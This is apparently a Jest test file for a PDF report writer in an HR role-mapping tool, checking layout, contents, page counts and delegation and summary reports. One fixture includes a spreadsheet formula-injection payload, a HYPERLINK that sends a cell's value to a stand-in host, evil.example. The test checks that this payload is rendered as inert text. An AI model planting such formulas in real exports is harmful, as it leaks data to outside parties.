import { DEMO_CAST } from '@rolemap/demo-data';
import { buildDelegationReview } from '../model/build-delegation-review';
import { buildOrganizationSummary } from '../model/build-organization-summary';
import { buildRoleDefinitions, streamRoleDefinitions } from '../model/build-role-definitions';
import type { Report } from '../model/report-types';
import { readPdf, type PdfText } from '../testing/read-pdf';
import { awkwardInputs, collect, demoInputs, duty, inputsFrom, person, sparseInputs } from '../testing/report-fixtures';
import { writePdf } from './write-pdf';

async function pdfOf(
  report: Report,
  onProgress?: (done: number, total: number) => void,
): Promise<{ bytes: Buffer; pdf: PdfText }> {
  const { out, done } = collect();
  await writePdf(report, out, { onProgress });
  const bytes = await done;
  return { bytes, pdf: await readPdf(bytes) };
}

/** pdf-parse puts spaces and line breaks where the layout has them; compare words only. */
const flat = (text: string) => text.replace(/\s+/g, ' ');

describe('writePdf', () => {
  const demo = demoInputs();

  describe('role definitions for the whole demo company', () => {
    const report = buildRoleDefinitions(demo.snapshot, demo.analysis, demo.policy, demo.options, { all: true });
    let pdf: PdfText;
    const progress: Array<[number, number]> = [];
    beforeAll(async () => {
      ({ pdf } = await pdfOf(report, (done, total) => progress.push([done, total])));
    }, 60_000);

    it('opens with a cover naming report, organization, snapshot and scope', () => {
      expect(pdf.title).toBe('Role definitions: Northwind Robotics');
      const cover = flat(pdf.pages[0]);
      expect(cover).toContain('Role definitions');
      expect(cover).toContain('Northwind Robotics');
      expect(cover).toContain('Version 3, as of 1 November 2026');
      expect(cover).toContain(`All roles (${report.roles.length})`);
    });

    it('numbers every page "Page n of N"', () => {
      expect(pdf.total).toBeGreaterThan(report.roles.length);
      pdf.pages.forEach((page, i) => expect(page).toContain(`Page ${i + 1} of ${pdf.total}`));
    });

    it('has a table of contents whose page numbers lead to the roles', () => {
      // The running header names the section: "… · Role definitions   Contents".
      const contentPages = pdf.pages.filter((page) => /· Role definitions Contents$/m.test(page));
      expect(contentPages.length).toBeGreaterThan(1);
      const contents = contentPages.map(flat).join(' ');
      for (const role of [
        report.roles[0],
        report.roles.find((r) => r.holder?.employeeId === DEMO_CAST.promotedDirector)!,
        report.roles[report.roles.length - 1],
      ]) {
        const entry = `${role.title} · ${role.holder?.name ?? 'Vacant'}`;
        const match = new RegExp(`${escape(entry)}\\s+(\\d+)`).exec(contents);
        expect(match).not.toBeNull();
        const page = Number(match![1]);
        const text = flat(pdf.pages[page - 1]);
        expect(text).toContain(role.title);
        expect(text).toContain(role.holder ? `Held by ${role.holder.name} (${role.holder.employeeId})` : 'Vacant post');
      }
    });

    it('gives each role its sections, explanations and advice', () => {
      const text = flat(pdf.text);
      const director = report.roles.find((role) => role.holder?.employeeId === DEMO_CAST.promotedDirector)!;
      expect(text).toContain('Expected vs actual level mix');
      expect(text).toContain('Expected of a director');
      expect(text).toContain('What to hand down');
      expect(text).toContain('Carried over: held since before the last promotion on 14 February 2026.');
      expect(text).toContain('Purpose (draft) ' + flat(director.purpose.text));
      expect(text).toContain(
        'Draft from the tier, the policy and the main accountabilities; HR has not written this purpose yet.',
      );
      expect(text).toContain(`Span ${director.directReports} direct reports, ${director.totalReports} people in all`);
      expect(text).toContain('Decision rights Level Right On Policy Leadership Decides the direction and strategy of its area');
      expect(text).toContain(flat(director.levelsToTakeOn[0].advice));
      // Explanations from the analysis, as written (the long ones wrap over lines).
      expect(text).toContain('Maya Lindqvist was promoted to Director of Engineering, Platform on 2026-02-14');
      expect(text).toContain('Olivia Grant (Customer Support Manager) has 14 direct reports');
    });

    it('fits every role on one or two pages, none of them near-empty', () => {
      const pages = rolePages(pdf);
      expect(pages.size).toBe(report.roles.length);
      for (const [section, count] of pages) expect([section, count <= 2]).toEqual([section, true]);
      pdf.pages.forEach((page, i) => expect([i + 1, contentLines(page) >= MIN_CONTENT_LINES]).toEqual([i + 1, true]));
    });

    it('reports progress up to the total, laying out then writing each role', () => {
      expect(progress[progress.length - 1]).toEqual([report.roles.length * 2, report.roles.length * 2]);
      expect(progress.map(([done]) => done)).toEqual(progress.map((_, i) => i + 1));
    });
  });

  it('writes the same file from a stream of roles, each built when it is drawn', async () => {
    const args = [demo.snapshot, demo.analysis, demo.policy, demo.options, { all: true }] as const;
    const whole = await pdfOf(buildRoleDefinitions(...args));
    const stream = streamRoleDefinitions(...args);
    const built: number[] = [];
    const { out, done } = collect();
    await writePdf({ ...stream, roleAt: (index) => (built.push(index), stream.roleAt(index)) }, out);
    expect((await done).equals(whole.bytes)).toBe(true);
    // Laid out, then written: each role is built twice, and none is kept in between.
    expect(built).toHaveLength(2 * stream.roleCount);
  }, 60_000);

  it('a single role has no contents page', async () => {
    const report = buildRoleDefinitions(demo.snapshot, demo.analysis, demo.policy, demo.options, {
      employeeId: DEMO_CAST.customerSupportManager,
    });
    const { pdf } = await pdfOf(report);
    expect(pdf.pages.some((page) => /^Contents$/m.test(page))).toBe(false);
    expect(flat(pdf.text)).toContain('Customer Support Manager');
    expect(pdf.pages[0]).toContain(`Page 1 of ${pdf.total}`);
  }, 30_000);

  it('keeps a role with many responsibilities, findings and hand-downs within two pages', async () => {
    const long = (i: number) =>
      `Responsibility number ${i + 1} with a title long enough to wrap onto a second line in the table column`;
    const people = [
      person('L1', 'Engineering Manager', null, { name: 'Lee Long' }),
      ...Array.from({ length: 14 }, (_, i) => person(`R${i + 1}`, 'Software Engineer', 'L1')),
    ];
    const duties = [
      ...Array.from({ length: 60 }, (_, i) =>
        duty('L1', long(i), i % 3 === 0 ? 'UNIFICATION' : 'IMPLEMENTATION', i < 12 ? 6 : 0.5),
      ),
      ...people.slice(1).map((report) => duty(report.employeeId, 'Write service code', 'IMPLEMENTATION', 50)),
    ];
    const inputs = inputsFrom(people, duties);
    const report = buildRoleDefinitions(inputs.snapshot, inputs.analysis, inputs.policy, inputs.options, { employeeId: 'L1' });
    const role = report.roles[0];
    expect(role.delegations.length).toBeGreaterThanOrEqual(5);
    expect(role.responsibilityGroups.flatMap((group) => group.responsibilities)).toHaveLength(60);
    const { pdf } = await pdfOf(report);
    const pages = rolePages(pdf);
    expect([...pages.values()]).toEqual([expect.any(Number)]);
    expect([...pages.values()][0]).toBeLessThanOrEqual(2);
    pdf.pages.forEach((page) => expect(contentLines(page)).toBeGreaterThanOrEqual(MIN_CONTENT_LINES));
    const text = flat(pdf.text);
    // The key ones are listed, the rest counted; the full list is in the spreadsheet export.
    expect(text).toMatch(/\d+ smaller responsibilities/);
    // Headers measured from their words: "Share of time" wraps between words, never inside one.
    expect(text).not.toMatch(/Sha re|Accountabilit y|Responsibilit y/);
  }, 60_000);

  it('handles a vacant post, a role without responsibilities and names beyond Latin-1', async () => {
    const inputs = awkwardInputs();
    const report = buildRoleDefinitions(inputs.snapshot, inputs.analysis, inputs.policy, inputs.options, { department: 'Sales' });
    const { pdf } = await pdfOf(report);
    const text = flat(pdf.text);
    expect(text).toContain('Vacant post (V1)');
    expect(text).toContain('This post is vacant');
    expect(text).toContain('No responsibilities are recorded for this role');
    expect(text).toContain('Zoë Łukasiewicz');
    expect(text).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")');
  }, 30_000);

  it('prints no mix for a role without data, what was not checked, the chain and the severity appendix', async () => {
    const sparse = sparseInputs();
    const roles = await pdfOf(
      buildRoleDefinitions(sparse.snapshot, sparse.analysis, sparse.policy, sparse.options, { all: true }),
    );
    const text = flat(roles.pdf.text);
    expect(text).toContain('Not assessed: no responsibilities are recorded for this role, so there is no mix to compare');
    expect(text).toContain('Delegation gap: no responsibilities recorded');
    expect(text).toContain('Alex Tech hands “Log daily checks” to Sam Tech');
    expect(text).toContain('Best fit: Sam Tech');
    expect(text).toContain('Appendix: what severity means and how it is computed');
    // The mix chart is drawn for the three roles with data only (and named once on "How to read").
    expect(text.split('Expected vs actual level mix').length - 1).toBe(4);

    const review = flat(
      (await pdfOf(buildDelegationReview(sparse.snapshot, sparse.analysis, sparse.policy, sparse.options, 'D1'))).pdf.text,
    );
    expect(review).toContain('Responsibilities are recorded for 3 of the 5 positions in the team.');
    expect(review).toContain('Mo Manager (Operations Manager): Delegation gap: no responsibilities recorded');
    const summary = flat(
      (await pdfOf(buildOrganizationSummary(sparse.snapshot, sparse.analysis, sparse.policy, sparse.options))).pdf.text,
    );
    expect(summary).toContain('Responsibilities are recorded for 3 of 5 positions (60%).');
    expect(summary).toContain('Delegation gap: not checked for 1 person (no responsibilities recorded: 1)');
  }, 30_000);

  it('writes a delegation review, and says so when a leader has no gaps', async () => {
    const withGaps = await pdfOf(
      buildDelegationReview(demo.snapshot, demo.analysis, demo.policy, demo.options, DEMO_CAST.vpSales),
    );
    const text = flat(withGaps.pdf.text);
    expect(text).toContain('Delegation review: Greg Whitfield (VP Sales)');
    expect(text).toContain('Prepare the weekly pipeline spreadsheet');
    expect(text).toContain('Aisha Karimi');
    expect(text).toContain('Suggested delegate: Aisha Karimi (Sales Operations Manager, a direct report)');

    const none = await pdfOf(
      buildDelegationReview(demo.snapshot, demo.analysis, demo.policy, demo.options, DEMO_CAST.billingAnalyst),
    );
    expect(flat(none.pdf.text)).toContain('No delegation gaps in Nadia Petrova’s team (1 role)');
  }, 30_000);

  it('writes the organization summary with its figures and top risks', async () => {
    const summary = buildOrganizationSummary(demo.snapshot, demo.analysis, demo.policy, demo.options);
    const { pdf } = await pdfOf(summary);
    const text = flat(pdf.text);
    for (const heading of [
      'At a glance',
      'Findings by kind',
      'Findings by department',
      'Spans of control',
      'Layers',
      'Top risks',
      'Tactical load of leaders',
    ]) {
      expect(text).toContain(heading);
    }
    expect(text).toContain(`${summary.spans.managers} people manage others`);
    expect(text).toContain(flat(summary.topRisks[0].explanation).slice(0, 80));
  }, 30_000);
});

/** A page holds more than its running header, its footer and a line or two. */
const MIN_CONTENT_LINES = 5;

/** Lines of a page besides the footer and the running header (pdf-parse reads those first). */
function contentLines(page: string): number {
  return page.split('\n').filter((line) => line.trim() !== '').length - 2;
}

/** Pages per role, by the running header that names the role on each of its pages. */
function rolePages(pdf: PdfText): Map<string, number> {
  const counts = new Map<string, number>();
  for (const page of pdf.pages.slice(1)) {
    const header = page.split('\n')[1] ?? '';
    const section = header.replace(/^.*· Role definitions\s*/, '');
    if (['How to read this report', 'Contents', 'Appendix'].includes(section)) continue;
    counts.set(section, (counts.get(section) ?? 0) + 1);
  }
  return counts;
}

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
